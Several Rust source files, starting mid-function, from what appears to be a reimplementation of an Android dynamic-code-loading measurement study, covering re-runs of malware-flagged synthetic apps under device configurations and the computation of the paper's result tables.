    for (app, malicious_paths) in flagged_apps(corpus, records) {
        counts.total_files += malicious_paths.len();
        let loaded: Vec<usize> = configs
            .iter()
            .map(|(name, config)| {
                let Ok((decompiled, bytes, _)) = decompiler::prepare_for_dynamic_analysis(&app.apk)
                else {
                    return 0;
                };
                count_loaded(
                    pipeline,
                    app,
                    name,
                    config,
                    &decompiled,
                    &bytes,
                    &malicious_paths,
                )
            })
            .collect();
        counts.time_before_release += loaded[0];
        counts.airplane_wifi_on += loaded[1];
        counts.airplane_wifi_off += loaded[2];
        counts.location_off += loaded[3];
    }
    counts
}

/// Exercises one prepared app under `config` and counts which of its
/// malicious files still load.
fn count_loaded(
    pipeline: &Pipeline,
    app: &SyntheticApp,
    config_name: &str,
    config: &DeviceConfig,
    decompiled: &DecompiledApp,
    install_bytes: &[u8],
    malicious_paths: &[String],
) -> usize {
    let mut span = pipeline.telemetry().span("env_rerun");
    span.field("app", &app.plan.package);
    span.field("config", config_name);
    let mut device = pipeline.prepare_device(app, config.clone());
    let outcome = pipeline.exercise_and_analyze_traced(
        app,
        &mut device,
        install_bytes,
        decompiled,
        span.id(),
    );
    // A crash after loading does not un-load the file: count events
    // regardless of the final status (interception happens at load time).
    let loaded = malicious_paths
        .iter()
        .filter(|p| {
            outcome
                .dex_events
                .iter()
                .chain(outcome.native_events.iter())
                .any(|e| e.path == **p)
        })
        .count();
    span.field("loaded", loaded);
    loaded
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn configurations_cover_table_viii() {
        let configs = configurations();
        assert_eq!(configs.len(), 4);
        assert!(configs[0].1.time_ms < RELEASE_MS);
        assert!(configs[1].1.airplane_mode && configs[1].1.wifi_on);
        assert!(configs[2].1.airplane_mode && !configs[2].1.wifi_on);
        assert!(!configs[3].1.location_enabled);
    }
}
