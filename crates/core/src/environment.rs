//! Runtime-environment re-runs (Table VIII).
//!
//! Every app whose loaded code was flagged as malware is re-executed under
//! the paper's four configurations — system time before release, airplane
//! mode with WiFi re-enabled, airplane mode fully offline, and location
//! service disabled — recording which of the malicious files are still
//! loaded in each. Aggregate counts feed Table VIII ([`EnvCounts`]);
//! the per-file outcomes ([`EnvLoad`]) feed the provenance ledger, where
//! `dcltrace diff` surfaces loads that only occur under some configs —
//! the logic-bomb signal.
//!
//! The re-runs are **decompile-once and parallel**: each flagged app is
//! decompiled and rewritten a single time, then the (app × config) pairs
//! fan out over the same worker pool the sweep uses. The pre-optimization
//! serial path (one decompile per app per configuration) survives as
//! [`rerun_all_serial`] for differential tests and the `sweepbench`
//! baseline, selectable via `PipelineConfig::serial_env_reruns`.

use std::collections::BTreeMap;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::OnceLock;

use dydroid_analysis::decompiler::{self, DecompiledApp};
use dydroid_avm::DeviceConfig;
use dydroid_workload::emit::RELEASE_MS;
use dydroid_workload::SyntheticApp;
use serde::{Deserialize, Serialize};

use crate::pipeline::{AppRecord, Pipeline};

/// Malicious-file load counts per configuration.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct EnvCounts {
    /// Total malicious files observed in the baseline run.
    pub total_files: usize,
    /// Files loaded with the system time set before the release date.
    pub time_before_release: usize,
    /// Files loaded under airplane mode with WiFi re-enabled.
    pub airplane_wifi_on: usize,
    /// Files loaded under airplane mode fully offline.
    pub airplane_wifi_off: usize,
    /// Files loaded with the location service disabled.
    pub location_off: usize,
}

/// One malicious file's re-run outcome: the configurations (by Table
/// VIII name) under which it still loaded.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct EnvLoad {
    /// Owning app's package.
    pub package: String,
    /// The malicious path.
    pub path: String,
    /// Config names under which the file loaded, in Table VIII order.
    pub configs: Vec<String>,
}

/// Aggregate counts plus per-file detail from the environment re-runs.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct EnvOutcome {
    /// Table VIII counts.
    pub counts: EnvCounts,
    /// Per-file outcomes: corpus order by app, path-sorted within an app.
    pub loads: Vec<EnvLoad>,
}

/// The four non-baseline configuration names, in Table VIII order.
pub fn config_names() -> [&'static str; 4] {
    [
        "System time",
        "Airplane mode/WiFi ON",
        "Airplane mode/WiFi OFF",
        "Location OFF",
    ]
}

/// The four non-baseline configurations, in Table VIII order.
pub fn configurations() -> [(&'static str, DeviceConfig); 4] {
    let base = DeviceConfig::default();
    let names = config_names();
    [
        (
            names[0],
            DeviceConfig {
                time_ms: RELEASE_MS - 86_400_000,
                ..base.clone()
            },
        ),
        (
            names[1],
            DeviceConfig {
                airplane_mode: true,
                wifi_on: true,
                ..base.clone()
            },
        ),
        (
            names[2],
            DeviceConfig {
                airplane_mode: true,
                wifi_on: false,
                ..base.clone()
            },
        ),
        (
            names[3],
            DeviceConfig {
                location_enabled: false,
                ..base
            },
        ),
    ]
}

/// A once-written slot holding one flagged app's decompilation and
/// rewritten install bytes (`None` if preparation failed).
type PreparedSlot = OnceLock<Option<(DecompiledApp, Vec<u8>)>>;

/// The malware-flagged subset of the corpus with their malicious paths.
fn flagged_apps<'c>(
    corpus: &'c [SyntheticApp],
    records: &[AppRecord],
) -> Vec<(&'c SyntheticApp, Vec<String>)> {
    corpus
        .iter()
        .zip(records)
        .filter_map(|(app, record)| {
            let dynamic = record.dynamic.as_ref()?;
            if dynamic.malware.is_empty() {
                return None;
            }
            let paths: Vec<String> = dynamic.malware.iter().map(|m| m.path.clone()).collect();
            Some((app, paths))
        })
        .collect()
}

/// Folds per-(app, config) load flags — one `bool` per malicious-path
/// entry — into Table VIII counts and per-file [`EnvLoad`] detail. The
/// fold runs on one thread in flagged order, so the outcome is identical
/// however the flags were produced.
fn assemble_outcome(
    flagged: &[(&SyntheticApp, Vec<String>)],
    flags_for: impl Fn(usize, usize) -> Option<Vec<bool>>,
) -> EnvOutcome {
    let names = config_names();
    let mut outcome = EnvOutcome::default();
    for (a, (app, paths)) in flagged.iter().enumerate() {
        outcome.counts.total_files += paths.len();
        // Distinct paths, with one presence flag per config each.
        let mut per_path: BTreeMap<&str, [bool; 4]> = BTreeMap::new();
        for c in 0..names.len() {
            let flags = flags_for(a, c).unwrap_or_else(|| vec![false; paths.len()]);
            let loaded = flags.iter().filter(|b| **b).count();
            match c {
                0 => outcome.counts.time_before_release += loaded,
                1 => outcome.counts.airplane_wifi_on += loaded,
                2 => outcome.counts.airplane_wifi_off += loaded,
                _ => outcome.counts.location_off += loaded,
            }
            for (path, flag) in paths.iter().zip(&flags) {
                per_path.entry(path).or_insert([false; 4])[c] |= *flag;
            }
        }
        for (path, present) in per_path {
            outcome.loads.push(EnvLoad {
                package: app.plan.package.clone(),
                path: path.to_string(),
                configs: names
                    .iter()
                    .zip(present)
                    .filter(|(_, p)| *p)
                    .map(|(n, _)| (*n).to_string())
                    .collect(),
            });
        }
    }
    outcome
}

/// Re-runs every malware-flagged app under the four configurations:
/// decompile/rewrite once per app, then fan the (app × config) pairs out
/// over the worker pool. Per-pair load flags land in once-written slots
/// and are folded deterministically, so the result is identical to
/// [`rerun_all_serial`].
pub fn rerun_all(
    pipeline: &Pipeline,
    corpus: &[SyntheticApp],
    records: &[AppRecord],
) -> EnvOutcome {
    if pipeline.config().serial_env_reruns {
        return rerun_all_serial(pipeline, corpus, records);
    }
    let flagged = flagged_apps(corpus, records);
    if flagged.is_empty() {
        return assemble_outcome(&flagged, |_, _| None);
    }
    let configs = configurations();
    let workers = pipeline
        .config()
        .effective_workers()
        .min(flagged.len() * configs.len());

    // Phase 1: decompile + rewrite each flagged app exactly once, in
    // parallel. Slots are OnceLocks so each is written by one worker.
    let prepared: Vec<PreparedSlot> = (0..flagged.len()).map(|_| OnceLock::new()).collect();
    let next = AtomicUsize::new(0);
    let scope_result = crossbeam::thread::scope(|scope| {
        for _ in 0..workers.min(flagged.len()) {
            scope.spawn(|_| loop {
                let i = next.fetch_add(1, Ordering::Relaxed);
                if i >= flagged.len() {
                    break;
                }
                let app = flagged[i].0;
                let p = decompiler::prepare_for_dynamic_analysis(&app.apk)
                    .ok()
                    .map(|(decompiled, bytes, _)| (decompiled, bytes));
                let _ = prepared[i].set(p);
            });
        }
    });
    if scope_result.is_err() {
        eprintln!(
            "dydroid: an environment prepare thread panicked; continuing with what was prepared"
        );
    }

    // Phase 2: the (app × config) pairs, each writing its load flags
    // into a once-written slot keyed by pair index.
    let loaded: Vec<OnceLock<Vec<bool>>> = (0..flagged.len() * configs.len())
        .map(|_| OnceLock::new())
        .collect();
    let next = AtomicUsize::new(0);
    let pairs = loaded.len();
    let scope_result = crossbeam::thread::scope(|scope| {
        for _ in 0..workers {
            scope.spawn(|_| loop {
                let i = next.fetch_add(1, Ordering::Relaxed);
                if i >= pairs {
                    break;
                }
                let (a, c) = (i / configs.len(), i % configs.len());
                let Some(Some((decompiled, bytes))) = prepared[a].get() else {
                    continue;
                };
                let (app, paths) = &flagged[a];
                let (name, config) = &configs[c];
                let flags = loaded_flags(pipeline, app, name, config, decompiled, bytes, paths);
                let _ = loaded[i].set(flags);
            });
        }
    });
    if scope_result.is_err() {
        eprintln!("dydroid: an environment re-run thread panicked; counts may be partial");
    }
    assemble_outcome(&flagged, |a, c| {
        loaded[a * configs.len() + c].get().cloned()
    })
}

/// The pre-optimization serial re-run path: one decompile + rewrite per
/// app **per configuration**, on the calling thread. Reference
/// implementation for the differential tests and the `sweepbench`
/// uncached-serial baseline.
pub fn rerun_all_serial(
    pipeline: &Pipeline,
    corpus: &[SyntheticApp],
    records: &[AppRecord],
) -> EnvOutcome {
    let flagged = flagged_apps(corpus, records);
    let configs = configurations();
    assemble_outcome(&flagged, |a, c| {
        let (app, malicious_paths) = &flagged[a];
        let (name, config) = &configs[c];
        let (decompiled, bytes, _) = decompiler::prepare_for_dynamic_analysis(&app.apk).ok()?;
        Some(loaded_flags(
            pipeline,
            app,
            name,
            config,
            &decompiled,
            &bytes,
            malicious_paths,
        ))
    })
}

/// Exercises one prepared app under `config` and reports, per malicious
/// path entry, whether the file still loaded.
fn loaded_flags(
    pipeline: &Pipeline,
    app: &SyntheticApp,
    config_name: &str,
    config: &DeviceConfig,
    decompiled: &DecompiledApp,
    install_bytes: &[u8],
    malicious_paths: &[String],
) -> Vec<bool> {
    let mut span = pipeline.telemetry().span("env_rerun");
    span.field("app", &app.plan.package);
    span.field("config", config_name);
    let mut device = pipeline.prepare_device(app, config.clone());
    let outcome = pipeline.exercise_and_analyze_traced(
        app,
        &mut device,
        install_bytes,
        decompiled,
        span.id(),
    );
    // A crash after loading does not un-load the file: count events
    // regardless of the final status (interception happens at load time).
    let flags: Vec<bool> = malicious_paths
        .iter()
        .map(|p| {
            outcome
                .dex_events
                .iter()
                .chain(outcome.native_events.iter())
                .any(|e| e.path == *p)
        })
        .collect();
    span.field("loaded", flags.iter().filter(|b| **b).count());
    flags
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn configurations_cover_table_viii() {
        let configs = configurations();
        assert_eq!(configs.len(), 4);
        assert!(configs[0].1.time_ms < RELEASE_MS);
        assert!(configs[1].1.airplane_mode && configs[1].1.wifi_on);
        assert!(configs[2].1.airplane_mode && !configs[2].1.wifi_on);
        assert!(!configs[3].1.location_enabled);
        let names = config_names();
        for (i, (name, _)) in configs.iter().enumerate() {
            assert_eq!(*name, names[i]);
        }
    }
}
