//! Runtime-environment re-runs (Table VIII).
//!
//! Every app whose loaded code was flagged as malware is re-executed under
//! the paper's four configurations — system time before release, airplane
//! mode with WiFi re-enabled, airplane mode fully offline, and location
//! service disabled — counting how many of the malicious files are still
//! loaded in each.

use dydroid_avm::DeviceConfig;
use dydroid_workload::emit::RELEASE_MS;
use dydroid_workload::SyntheticApp;
use serde::{Deserialize, Serialize};

use crate::pipeline::{AppRecord, Pipeline};

/// Malicious-file load counts per configuration.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct EnvCounts {
    /// Total malicious files observed in the baseline run.
    pub total_files: usize,
    /// Files loaded with the system time set before the release date.
    pub time_before_release: usize,
    /// Files loaded under airplane mode with WiFi re-enabled.
    pub airplane_wifi_on: usize,
    /// Files loaded under airplane mode fully offline.
    pub airplane_wifi_off: usize,
    /// Files loaded with the location service disabled.
    pub location_off: usize,
}

/// The four non-baseline configurations, in Table VIII order.
pub fn configurations() -> [(&'static str, DeviceConfig); 4] {
    let base = DeviceConfig::default();
    [
        (
            "System time",
            DeviceConfig {
                time_ms: RELEASE_MS - 86_400_000,
                ..base.clone()
            },
        ),
        (
            "Airplane mode/WiFi ON",
            DeviceConfig {
                airplane_mode: true,
                wifi_on: true,
                ..base.clone()
            },
        ),
        (
            "Airplane mode/WiFi OFF",
            DeviceConfig {
                airplane_mode: true,
                wifi_on: false,
                ..base.clone()
            },
        ),
        (
            "Location OFF",
            DeviceConfig {
                location_enabled: false,
                ..base
            },
        ),
    ]
}

/// Re-runs every malware-flagged app under the four configurations.
pub fn rerun_all(pipeline: &Pipeline, corpus: &[SyntheticApp], records: &[AppRecord]) -> EnvCounts {
    let mut counts = EnvCounts::default();
    let configs = configurations();
    for (app, record) in corpus.iter().zip(records) {
        let Some(dynamic) = &record.dynamic else {
            continue;
        };
        if dynamic.malware.is_empty() {
            continue;
        }
        let malicious_paths: Vec<&str> = dynamic.malware.iter().map(|m| m.path.as_str()).collect();
        counts.total_files += malicious_paths.len();

        let loaded = [
            count_loaded(pipeline, app, &configs[0].1, &malicious_paths),
            count_loaded(pipeline, app, &configs[1].1, &malicious_paths),
            count_loaded(pipeline, app, &configs[2].1, &malicious_paths),
            count_loaded(pipeline, app, &configs[3].1, &malicious_paths),
        ];
        counts.time_before_release += loaded[0];
        counts.airplane_wifi_on += loaded[1];
        counts.airplane_wifi_off += loaded[2];
        counts.location_off += loaded[3];
    }
    counts
}

fn count_loaded(
    pipeline: &Pipeline,
    app: &SyntheticApp,
    config: &DeviceConfig,
    malicious_paths: &[&str],
) -> usize {
    let Ok((decompiled, bytes, _)) =
        dydroid_analysis::decompiler::prepare_for_dynamic_analysis(&app.apk)
    else {
        return 0;
    };
    let mut device = pipeline.prepare_device(app, config.clone());
    let outcome = pipeline.exercise_and_analyze(app, &mut device, &bytes, &decompiled);
    // A crash after loading does not un-load the file: count events
    // regardless of the final status (interception happens at load time).
    malicious_paths
        .iter()
        .filter(|p| {
            outcome
                .dex_events
                .iter()
                .chain(outcome.native_events.iter())
                .any(|e| e.path == **p)
        })
        .count()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn configurations_cover_table_viii() {
        let configs = configurations();
        assert_eq!(configs.len(), 4);
        assert!(configs[0].1.time_ms < RELEASE_MS);
        assert!(configs[1].1.airplane_mode && configs[1].1.wifi_on);
        assert!(configs[2].1.airplane_mode && !configs[2].1.wifi_on);
        assert!(!configs[3].1.location_enabled);
    }
}
