//! Aggregated measurement results and regeneration of every table and
//! figure in the paper's evaluation section.

use std::collections::BTreeMap;
use std::fmt::Write as _;

use dydroid_analysis::taint::PrivacyType;
use dydroid_analysis::VulnKind;
use serde::{Deserialize, Serialize};

use crate::cache::CacheStats;
use crate::environment::EnvCounts;
use crate::pipeline::{AppRecord, DynamicStatus};

/// Per-phase wall-times and cache counters of one measurement run.
///
/// Perf telemetry, not a measurement result: it is *excluded* from the
/// report's serialized form so a cached and an uncached sweep over the
/// same corpus produce byte-identical JSON (the differential-test
/// invariant), and so journaled reports stay replayable. Read it via
/// [`MeasurementReport::stats`] / render it via
/// [`MeasurementReport::render_perf`].
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct SweepStats {
    /// Wall-clock of the parallel corpus sweep, in milliseconds.
    pub sweep_ms: u64,
    /// Wall-clock of the Table VIII environment re-runs, in milliseconds.
    pub env_ms: u64,
    /// Apps analysed.
    pub analyzed_apps: usize,
    /// Analysis-cache counters for this run.
    pub cache: CacheStats,
}

impl SweepStats {
    /// Total wall-clock across phases, in milliseconds.
    pub fn total_ms(&self) -> u64 {
        self.sweep_ms + self.env_ms
    }

    /// Apps analysed per second of total wall-clock.
    pub fn apps_per_sec(&self) -> f64 {
        let ms = self.total_ms();
        if ms == 0 {
            0.0
        } else {
            self.analyzed_apps as f64 * 1000.0 / ms as f64
        }
    }
}

/// The complete measurement output: per-app records plus the Table VIII
/// environment counts.
#[derive(Debug, Clone)]
pub struct MeasurementReport {
    records: Vec<AppRecord>,
    env: EnvCounts,
    /// Perf telemetry; deliberately excluded from the serialized form
    /// (see [`SweepStats`]), hence the manual Serialize/Deserialize.
    stats: SweepStats,
}

impl Serialize for MeasurementReport {
    fn to_json(&self) -> serde::Value {
        serde::Value::Object(vec![
            ("records".to_string(), self.records.to_json()),
            ("env".to_string(), self.env.to_json()),
        ])
    }
}

impl Deserialize for MeasurementReport {
    fn from_json(v: &serde::Value) -> Result<Self, serde::Error> {
        Ok(MeasurementReport {
            records: Deserialize::from_json(serde::__field(v, "records"))?,
            env: Deserialize::from_json(serde::__field(v, "env"))?,
            stats: SweepStats::default(),
        })
    }
}

/// One column (DEX or native) of Table II.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct Table2Column {
    /// Apps with this kind of DCL code (the column denominator).
    pub total: usize,
    /// Rewriting failures.
    pub rewriting_failure: usize,
    /// Apps without a launchable activity.
    pub no_activity: usize,
    /// Runtime crashes.
    pub crash: usize,
    /// Harness failures: analyzer panics, blown per-app deadlines, and
    /// resource-sanity rejections — failures of the measurement, not of
    /// the app.
    pub harness_failure: usize,
    /// Successfully exercised apps.
    pub exercised: usize,
    /// Apps whose DCL executed and was intercepted.
    pub intercepted: usize,
}

impl Table2Column {
    /// Total failures (rewriting + no activity + crash + harness).
    pub fn failure(&self) -> usize {
        self.rewriting_failure + self.no_activity + self.crash + self.harness_failure
    }
}

/// Table II: dynamic-analysis summary.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct Table2 {
    /// DEX column.
    pub dex: Table2Column,
    /// Native column.
    pub native: Table2Column,
}

/// One row of Table III.
#[derive(Debug, Clone, Copy, Default, PartialEq, Serialize, Deserialize)]
pub struct PopularityRow {
    /// Number of apps in the group.
    pub apps: usize,
    /// Mean download count.
    pub mean_downloads: f64,
    /// Mean rating count.
    pub mean_ratings: f64,
    /// Mean average rating.
    pub mean_rating: f64,
}

/// Table III: DCL vs. application popularity.
#[derive(Debug, Clone, Copy, Default, PartialEq, Serialize, Deserialize)]
pub struct Table3 {
    /// Apps with DEX DCL code.
    pub dex: PopularityRow,
    /// Apps without DEX DCL code.
    pub without_dex: PopularityRow,
    /// Apps with native DCL code.
    pub native: PopularityRow,
    /// Apps without native DCL code.
    pub without_native: PopularityRow,
}

/// One row (DEX or native) of Table IV.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct Table4Row {
    /// Intercepted apps (denominator).
    pub total: usize,
    /// Apps with any third-party-initiated load.
    pub third_party: usize,
    /// Apps with any own-code-initiated load.
    pub own: usize,
    /// Apps with both.
    pub both: usize,
}

/// Table IV: responsible entity of DCL.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct Table4 {
    /// DEX row.
    pub dex: Table4Row,
    /// Native row.
    pub native: Table4Row,
}

/// Table V: apps executing remotely fetched code.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct Table5 {
    /// `(package, source URLs)` per violating app.
    pub apps: Vec<(String, Vec<String>)>,
}

/// Table VI: obfuscation technique adoption.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct Table6 {
    /// Corpus size (denominator).
    pub total: usize,
    /// Lexical obfuscation.
    pub lexical: usize,
    /// Reflection.
    pub reflection: usize,
    /// Native code (confirmed dynamically, as in the paper).
    pub native: usize,
    /// DEX encryption (packing).
    pub dex_encryption: usize,
    /// Anti-decompilation.
    pub anti_decompilation: usize,
}

/// Figure 3: DEX-encryption apps per category.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct Figure3 {
    /// `(category name, #apps)`, descending, zero categories omitted.
    pub counts: Vec<(String, usize)>,
}

/// One family row of Table VII.
#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
pub struct Table7Row {
    /// Family name.
    pub family: String,
    /// Whether the payloads are native code.
    pub native: bool,
    /// Number of apps loading this family.
    pub apps: usize,
    /// Number of distinct malicious files.
    pub files: usize,
    /// Sample app: `(package, downloads)` of the most-downloaded carrier.
    pub sample: Option<(String, u64)>,
}

/// Table VII: malware detected in dynamically loaded code.
#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
pub struct Table7 {
    /// Family rows.
    pub rows: Vec<Table7Row>,
}

/// Table IX: vulnerable applications.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct Table9 {
    /// DEX loaded from external storage: `(package, downloads)`.
    pub dex_external: Vec<(String, u64)>,
    /// Native code from other apps' internal storage.
    pub native_foreign: Vec<(String, u64)>,
}

/// One privacy-type row of Table X.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub struct Table10Row {
    /// The privacy type.
    pub privacy: PrivacyType,
    /// Apps leaking it through loaded code.
    pub apps: usize,
    /// Of those, apps where the leak is exclusively third-party.
    pub exclusively_third_party: usize,
}

/// Table X: privacy tracking in dynamically loaded code.
#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
pub struct Table10 {
    /// Intercepted-DEX app population (denominator).
    pub population: usize,
    /// One row per privacy type, Table X order.
    pub rows: Vec<Table10Row>,
}

fn pct(part: usize, whole: usize) -> f64 {
    if whole == 0 {
        0.0
    } else {
        (part as f64) * 100.0 / (whole as f64)
    }
}

impl MeasurementReport {
    /// Builds a report.
    pub fn new(records: Vec<AppRecord>, env: EnvCounts) -> Self {
        MeasurementReport {
            records,
            env,
            stats: SweepStats::default(),
        }
    }

    /// The per-app records.
    pub fn records(&self) -> &[AppRecord] {
        &self.records
    }

    /// The environment-rerun counts.
    pub fn env_counts(&self) -> &EnvCounts {
        &self.env
    }

    /// Perf telemetry of the run that produced this report (zeroed on
    /// deserialized reports — it is not part of the measurement).
    pub fn stats(&self) -> &SweepStats {
        &self.stats
    }

    /// Attaches perf telemetry (called by the pipeline).
    pub fn set_stats(&mut self, stats: SweepStats) {
        self.stats = stats;
    }

    /// Renders the perf telemetry: per-phase wall-times plus cache
    /// hit/miss/unique-binary counters. Kept separate from
    /// [`MeasurementReport::render_all`] so rendered measurement output
    /// stays deterministic.
    pub fn render_perf(&self) -> String {
        let mut s = String::new();
        let st = &self.stats;
        let _ = writeln!(
            s,
            "PERF — {} apps in {} ms ({:.1} apps/sec)",
            st.analyzed_apps,
            st.total_ms(),
            st.apps_per_sec()
        );
        let _ = writeln!(s, "{:<26}{:>8} ms", "  corpus sweep", st.sweep_ms);
        let _ = writeln!(s, "{:<26}{:>8} ms", "  environment re-runs", st.env_ms);
        let c = &st.cache;
        let _ = writeln!(
            s,
            "  cache: {} hits / {} misses ({:.2}% hit rate), {} unique binaries",
            c.hits,
            c.misses,
            c.hit_rate() * 100.0,
            c.entries
        );
        let _ = writeln!(
            s,
            "  analyses: {} signature builds, {} taint runs",
            c.sig_builds, c.taint_runs
        );
        s
    }

    fn dex_population(&self) -> impl Iterator<Item = &AppRecord> {
        self.records.iter().filter(|r| r.filter.has_dex_dcl)
    }

    fn native_population(&self) -> impl Iterator<Item = &AppRecord> {
        self.records.iter().filter(|r| r.filter.has_native_dcl)
    }

    /// Computes Table II.
    pub fn table2(&self) -> Table2 {
        let column = |records: Vec<&AppRecord>, dex: bool| {
            let mut col = Table2Column {
                total: records.len(),
                ..Default::default()
            };
            for r in records {
                match r.dynamic.as_ref().map(|d| &d.status) {
                    Some(DynamicStatus::RewriteFailure) => col.rewriting_failure += 1,
                    Some(DynamicStatus::NoActivity) => col.no_activity += 1,
                    Some(DynamicStatus::Crash) => col.crash += 1,
                    Some(DynamicStatus::AnalysisFailure { .. }) => col.harness_failure += 1,
                    Some(DynamicStatus::Exercised) => {
                        col.exercised += 1;
                        let intercepted = if dex {
                            r.dex_intercepted()
                        } else {
                            r.native_intercepted()
                        };
                        if intercepted {
                            col.intercepted += 1;
                        }
                    }
                    None => {}
                }
            }
            col
        };
        Table2 {
            dex: column(self.dex_population().collect(), true),
            native: column(self.native_population().collect(), false),
        }
    }

    /// Computes Table III.
    pub fn table3(&self) -> Table3 {
        let row = |pred: &dyn Fn(&AppRecord) -> bool| {
            let group: Vec<&AppRecord> = self.records.iter().filter(|r| pred(r)).collect();
            let n = group.len();
            if n == 0 {
                return PopularityRow::default();
            }
            PopularityRow {
                apps: n,
                mean_downloads: group
                    .iter()
                    .map(|r| r.metadata.downloads as f64)
                    .sum::<f64>()
                    / n as f64,
                mean_ratings: group
                    .iter()
                    .map(|r| r.metadata.rating_count as f64)
                    .sum::<f64>()
                    / n as f64,
                mean_rating: group.iter().map(|r| r.metadata.avg_rating).sum::<f64>() / n as f64,
            }
        };
        Table3 {
            dex: row(&|r| r.filter.has_dex_dcl),
            without_dex: row(&|r| !r.filter.has_dex_dcl),
            native: row(&|r| r.filter.has_native_dcl),
            without_native: row(&|r| !r.filter.has_native_dcl),
        }
    }

    /// Computes Table IV.
    pub fn table4(&self) -> Table4 {
        let mut t = Table4::default();
        for r in &self.records {
            let Some(d) = &r.dynamic else { continue };
            if r.dex_intercepted() {
                t.dex.total += 1;
                if d.dex_entity.third_party {
                    t.dex.third_party += 1;
                }
                if d.dex_entity.own {
                    t.dex.own += 1;
                }
                if d.dex_entity.both() {
                    t.dex.both += 1;
                }
            }
            if r.native_intercepted() {
                t.native.total += 1;
                if d.native_entity.third_party {
                    t.native.third_party += 1;
                }
                if d.native_entity.own {
                    t.native.own += 1;
                }
                if d.native_entity.both() {
                    t.native.both += 1;
                }
            }
        }
        t
    }

    /// Computes Table V.
    pub fn table5(&self) -> Table5 {
        let mut apps = Vec::new();
        for r in &self.records {
            let Some(d) = &r.dynamic else { continue };
            if d.status != DynamicStatus::Exercised || d.remote_loads.is_empty() {
                continue;
            }
            let mut urls: Vec<String> =
                d.remote_loads.iter().flat_map(|(_, u)| u.clone()).collect();
            urls.sort();
            urls.dedup();
            apps.push((r.package.clone(), urls));
        }
        apps.sort();
        Table5 { apps }
    }

    /// Computes Table VI. The native row is confirmed dynamically, as in
    /// the paper ("identified by confirming with the output of our
    /// dynamic analysis").
    pub fn table6(&self) -> Table6 {
        let mut t = Table6 {
            total: self.records.len(),
            ..Default::default()
        };
        for r in &self.records {
            if r.obfuscation.lexical {
                t.lexical += 1;
            }
            if r.obfuscation.reflection {
                t.reflection += 1;
            }
            if r.native_intercepted() {
                t.native += 1;
            }
            if r.obfuscation.dex_encryption {
                t.dex_encryption += 1;
            }
            if r.obfuscation.anti_decompilation {
                t.anti_decompilation += 1;
            }
        }
        t
    }

    /// Computes Figure 3.
    pub fn figure3(&self) -> Figure3 {
        let mut counts: BTreeMap<usize, usize> = BTreeMap::new();
        for r in &self.records {
            if r.obfuscation.dex_encryption {
                *counts.entry(r.metadata.category).or_insert(0) += 1;
            }
        }
        let mut counts: Vec<(String, usize)> = counts
            .into_iter()
            .map(|(cat, n)| {
                (
                    dydroid_workload::categories::CATEGORIES
                        .get(cat)
                        .copied()
                        .unwrap_or("Unknown")
                        .to_string(),
                    n,
                )
            })
            .collect();
        counts.sort_by(|a, b| b.1.cmp(&a.1).then(a.0.cmp(&b.0)));
        Figure3 { counts }
    }

    /// Computes Table VII.
    pub fn table7(&self) -> Table7 {
        let mut families: BTreeMap<String, Table7Row> = BTreeMap::new();
        for r in &self.records {
            let Some(d) = &r.dynamic else { continue };
            if d.malware.is_empty() {
                continue;
            }
            let mut seen_families: Vec<&str> = Vec::new();
            for hit in &d.malware {
                let row = families
                    .entry(hit.family.clone())
                    .or_insert_with(|| Table7Row {
                        family: hit.family.clone(),
                        native: hit.native,
                        ..Default::default()
                    });
                row.files += 1;
                if !seen_families.contains(&hit.family.as_str()) {
                    seen_families.push(&hit.family);
                    row.apps += 1;
                    let downloads = r.metadata.downloads;
                    if row
                        .sample
                        .as_ref()
                        .map(|(_, d)| downloads > *d)
                        .unwrap_or(true)
                    {
                        row.sample = Some((r.package.clone(), downloads));
                    }
                }
            }
        }
        Table7 {
            rows: families.into_values().collect(),
        }
    }

    /// Computes Table IX.
    pub fn table9(&self) -> Table9 {
        let mut t = Table9::default();
        for r in &self.records {
            let Some(d) = &r.dynamic else { continue };
            for v in &d.vulns {
                match v {
                    VulnKind::ExternalStorage => {
                        t.dex_external
                            .push((r.package.clone(), r.metadata.downloads));
                    }
                    VulnKind::ForeignInternalStorage { .. } => {
                        t.native_foreign
                            .push((r.package.clone(), r.metadata.downloads));
                    }
                }
            }
        }
        t.dex_external
            .sort_by_key(|(_, downloads)| std::cmp::Reverse(*downloads));
        t.native_foreign
            .sort_by_key(|(_, downloads)| std::cmp::Reverse(*downloads));
        t
    }

    /// Computes Table X.
    pub fn table10(&self) -> Table10 {
        let population = self.records.iter().filter(|r| r.dex_intercepted()).count();
        let rows = PrivacyType::ALL
            .iter()
            .map(|&privacy| {
                let mut apps = 0;
                let mut excl = 0;
                for r in &self.records {
                    if !r.dex_intercepted() {
                        continue;
                    }
                    let Some(d) = &r.dynamic else { continue };
                    if let Some(l) = d.leak_types.iter().find(|l| l.privacy == privacy) {
                        apps += 1;
                        if l.exclusively_third_party {
                            excl += 1;
                        }
                    }
                }
                Table10Row {
                    privacy,
                    apps,
                    exclusively_third_party: excl,
                }
            })
            .collect();
        Table10 { population, rows }
    }

